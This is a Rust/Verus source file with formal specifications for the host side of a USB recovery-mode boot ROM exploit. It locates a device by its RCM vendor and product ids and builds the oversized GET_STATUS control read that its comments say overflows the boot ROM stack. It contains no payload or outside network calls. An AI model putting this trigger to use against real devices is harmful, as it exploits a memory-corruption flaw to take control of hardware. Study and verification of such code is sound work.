use vstd::prelude::*;

verus! {

/// Vendor id of a device in recovery mode.
pub const RCM_VID: u16 = 0x0955;

/// Product id of a device in recovery mode.
pub const RCM_PID: u16 = 0x7321;

/// Bulk OUT endpoint of the RCM protocol.
pub const BULK_OUT_ENDPOINT: u8 = 0x01;

/// Bulk IN endpoint of the RCM protocol.
pub const BULK_IN_ENDPOINT: u8 = 0x81;

/// `bmRequestType`: device-to-host, standard, endpoint recipient.
pub const STANDARD_REQUEST_DEVICE_TO_HOST_TO_ENDPOINT: u8 = 0x82;

/// `bmRequestType`: device-to-host, standard, device recipient.
pub const STANDARD_REQUEST_DEVICE_TO_HOST: u8 = 0x80;

/// `bRequest` of GET_STATUS.
pub const GET_STATUS: u8 = 0x0;

/// Timeout of ordinary reads, writes and the primary trigger, in microseconds.
pub const TRANSFER_TIMEOUT_US: u64 = 1_000_000;

/// A USB failure, one variant for each error libusb reports.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub enum UsbError {
    Io,
    InvalidParam,
    Access,
    NoDevice,
    NotFound,
    Busy,
    Timeout,
    Overflow,
    Pipe,
    Interrupted,
    NoMem,
    NotSupported,
    BadDescriptor,
    Other,
}

/// A device-to-host control transfer for the caller to issue.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub struct ControlRead {
    pub request_type: u8,
    pub request: u8,
    pub value: u16,
    pub index: u16,
    pub length: usize,
    pub timeout_us: u64,
}

/// The malformed GET_STATUS read that makes the boot ROM copy `length` bytes
/// onto its stack; `index` names the target endpoint.
pub open spec fn overflow_request(index: u16, length: usize, timeout_us: u64) -> ControlRead {
    ControlRead {
        request_type: STANDARD_REQUEST_DEVICE_TO_HOST_TO_ENDPOINT,
        request: GET_STATUS,
        value: 0,
        index,
        length,
        timeout_us,
    }
}

pub fn make_overflow_request(index: u16, length: usize, timeout_us: u64) -> (r: ControlRead)
    ensures
        r == overflow_request(index, length, timeout_us),
{
    ControlRead {
        request_type: STANDARD_REQUEST_DEVICE_TO_HOST_TO_ENDPOINT,
        request: GET_STATUS,
        value: 0,
        index,
        length,
        timeout_us,
    }
}

/// Vendor and product ids to look for: the given ones, else the RCM pair.
pub open spec fn resolved_ids(vid: Option<u16>, pid: Option<u16>) -> (u16, u16) {
    (
        match vid {
            Some(v) => v,
            None => RCM_VID,
        },
        match pid {
            Some(p) => p,
            None => RCM_PID,
        },
    )
}

/// Whether an attached device's descriptor (absent when it could not be read)
/// carries the given ids.
pub open spec fn descriptor_matches(d: Option<(u16, u16)>, ids: (u16, u16)) -> bool {
    d == Some(ids)
}

/// The host-side capability that reaches the device.
pub struct Backend {
    pub skip_checks: bool,
}

impl Backend {
    pub fn new(skip_checks: bool) -> (r: Self)
        ensures
            r.skip_checks == skip_checks,
    {
        Self { skip_checks }
    }

    /// Warnings the backend has for its user; this one has none.
    pub fn print_warnings(&self) {
    }

    /// The backend for this host. Every host is served the same way, so this
    /// always succeeds.
    pub fn create_appropriate_backend(system_override: Option<&str>, skip_checks: bool) -> (r:
        Result<Self, String>)
        ensures
            r is Ok,
            r->Ok_0.skip_checks == skip_checks,
    {
        Ok(Self::new(skip_checks))
    }

    /// Index of the first attached device whose descriptor carries the
    /// requested ids (the RCM pair by default); `NoDevice` when none does.
    pub fn find_device(&self, vid: Option<u16>, pid: Option<u16>, descriptors: &[Option<(u16, u16)>]) -> (r: Result<usize, UsbError>)
        ensures
            match r {
                Ok(i) => i < descriptors@.len() && descriptor_matches(
                    descriptors@[i as int],
                    resolved_ids(vid, pid),
                ) && forall|j: int|
                    0 <= j < i ==> !descriptor_matches(
                        #[trigger] descriptors@[j],
                        resolved_ids(vid, pid),
                    ),
                Err(e) => e == UsbError::NoDevice && forall|j: int|
                    0 <= j < descriptors@.len() ==> !descriptor_matches(
                        #[trigger] descriptors@[j],
                        resolved_ids(vid, pid),
                    ),
            },
    {
        let want_vid = match vid {
            Some(v) => v,
            None => RCM_VID,
        };
        let want_pid = match pid {
            Some(p) => p,
            None => RCM_PID,
        };
        let mut i: usize = 0;
        while i < descriptors.len()
            invariant
                i <= descriptors@.len(),
                (want_vid, want_pid) == resolved_ids(vid, pid),
                forall|j: int|
                    0 <= j < i ==> !descriptor_matches(
                        #[trigger] descriptors@[j],
                        resolved_ids(vid, pid),
                    ),
            decreases descriptors@.len() - i,
        {
            match descriptors[i] {
                Some((v, p)) => {
                    if v == want_vid && p == want_pid {
                        return Ok(i);
                    }
                },
                None => {},
            }
            i = i + 1;
        }
        Err(UsbError::NoDevice)
    }

    /// The one transfer that triggers the vulnerability with a `length`-byte
    /// buffer: a device-to-host, endpoint-recipient GET_STATUS read with value
    /// and index 0 and a one-second timeout. The caller issues it and hands
    /// its outcome to `trigger_result`.
    pub fn trigger_vulnerability(&self, length: usize) -> (r: ControlRead)
        ensures
            r == overflow_request(0, length, TRANSFER_TIMEOUT_US),
            r.request_type == 0x82 && r.request == 0 && r.value == 0 && r.index == 0,
            r.length == length && r.timeout_us == 1_000_000,
    {
        make_overflow_request(0, length, TRANSFER_TIMEOUT_US)
    }

    /// Reads the outcome of the trigger transfer. A timeout means the copy
    /// never returned to the USB stack, which is success; so is a normal
    /// completion; any other error is a failure.
    pub fn trigger_result(&self, outcome: Result<usize, UsbError>) -> (r: Result<(), UsbError>)
        ensures
            r is Ok <==> (outcome is Ok || outcome == Err::<usize, UsbError>(UsbError::Timeout)),
            r is Err ==> outcome == Err::<usize, UsbError>(r->Err_0),
    {
        match outcome {
            Ok(_) => Ok(()),
            Err(UsbError::Timeout) => Ok(()),
            Err(e) => Err(e),
        }
    }

    /// The bytes of a bulk read into `buffer` that reported `outcome`: exactly
    /// those received.
    pub fn read(&self, buffer: Vec<u8>, outcome: Result<usize, UsbError>) -> (r: Result<Vec<u8>, UsbError>)
        ensures
            match outcome {
                Ok(n) => r is Ok && r->Ok_0@ == buffer@.take(
                    if n <= buffer@.len() { n as int } else { buffer@.len() as int },
                ),
                Err(e) => r == Err::<Vec<u8>, UsbError>(e),
            },
    {
        match outcome {
            Ok(n) => {
                let mut buffer = buffer;
                buffer.truncate(n);
                Ok(buffer)
            },
            Err(e) => Err(e),
        }
    }
}

} // verus!
